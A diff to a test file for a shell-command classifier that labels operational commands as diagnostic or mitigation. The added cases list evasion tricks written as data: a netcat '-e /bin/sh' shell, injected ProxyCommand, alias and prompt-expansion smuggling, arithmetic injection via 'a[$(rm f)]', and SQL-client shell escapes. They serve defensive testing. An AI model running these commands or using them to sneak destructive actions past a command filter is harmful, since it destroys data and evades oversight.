@@ -373,6 +373,60 @@ test('every command anywhere in the cell counts', () => {
   ]);
 });
 
+test('less obvious ways to run or write something are mitigations', () => {
+  check([
+    ['kubectl --kubeconfig <(printf "users: []") get pods', 'mitigation', /as a file/],
+    ['ssh -F <(echo "ProxyCommand rm x") db1 uptime', 'mitigation'],
+    ['diff <(oc get cm a -o yaml) <(oc get cm b -o yaml)', 'diagnostic'],
+    ['n=$(wc -l < f); echo $(( n * 2 ))', 'mitigation'],
+    ['X=\'$(rm f)\'; echo "${X@P}"', 'mitigation', /prompt expansion/],
+    ['v=PATH=/tmp; export "$v"', 'mitigation'],
+    ["shopt -s expand_aliases\nalias echo=\"echo '\"\necho '; rm -rf x; echo '", 'mitigation'],
+    ['set -o posix', 'mitigation'],
+    ['set -euo pipefail', 'diagnostic'],
+    ["env -iS'rm -rf x'", 'mitigation'],
+    ["ls | xargs -I{} sh -c '{}'", 'mitigation'],
+    ["ls | xargs -I % sh -c 'cat %'", 'mitigation'],
+    ['oc get pods -o name | xargs -I{} oc describe {}', 'diagnostic'],
+    ['git -C /srv -c core.fsmonitor=evil status', 'mitigation'],
+    ["curl -w '%output{/tmp/x}done' https://x", 'mitigation'],
+    ['curl -H "X-HTTP-Method-Override: DELETE" https://x/1', 'mitigation'],
+    ['wget -e output_document=/tmp/x -qO- https://x', 'mitigation'],
+    ["sed ':a;w /tmp/x' f", 'mitigation'],
+    ["awk 'BEGIN{f=\"system\"; @f(\"rm x\")}'", 'mitigation'],
+    ["tar -tf x.tar -I 'rm x;'", 'mitigation'],
+    ['openssl req -new -x509 -subj /CN=x', 'mitigation'],
+    ['history -w ~/.bashrc', 'mitigation'],
+    ["less '+!rm x' f", 'mitigation'],
+    ['ss -K dst 10.0.0.1', 'mitigation'],
+    ['nc -z -e /bin/sh host 1', 'mitigation'],
+    ['journalctl --cursor-file=/etc/x', 'mitigation'],
+    ['strace -e inject=write:error=EIO -p 1', 'mitigation'],
+    ['helm template x ./chart --post-renderer ./evil', 'mitigation'],
+    ['echo "osd set noout" | ceph', 'mitigation'],
+    ['psql -c "SELECT 1" -f - <<< "DROP TABLE t"', 'mitigation'],
+    ['psql -c "\\echo `rm x`"', 'mitigation'],
+    ['psql -c "\\dt \\! rm x"', 'mitigation'],
+    ['mongosh --eval \'db["dropDatabase"]()\'', 'mitigation'],
+    ['mongosh --eval "db.c.find().forEach(d => db.c.deleteOne(d))"', 'mitigation'],
+    ["sqlite3 -cmd '.shell rm x' app.db", 'mitigation'],
+    ['sqlite3 app.db "SELECT writefile(\'/tmp/x\', \'y\')"', 'mitigation'],
+    ['patronictl query -c "DELETE FROM t"', 'mitigation'],
+  ]);
+});
+
+test('arithmetic on a variable whose value holds code is a mitigation', () => {
+  // Bash evaluates the value as an expression: `a[$(rm f)]` runs rm.
+  check([
+    ['echo $(( X + 1 ))', 'mitigation', /arithmetic on `X`/],
+    ['[[ $X -eq 1 ]] && echo one', 'mitigation'],
+    ['echo ${arr[X]}', 'mitigation'],
+    ['Z=X; echo $(( Z ))', 'mitigation'],
+    ['echo $(( Y + 1 ))', 'diagnostic'],
+    ['echo $(( UNSET + 1 ))', 'diagnostic'],
+  ], { env: { X: 'a[$(rm f)]', Y: '2' } });
+});
+
 test('placeholders that cannot write as written are read as the words they stand for', () => {
   check([
     ['oc logs <pod> -n <namespace>', 'diagnostic', /placeholders/],
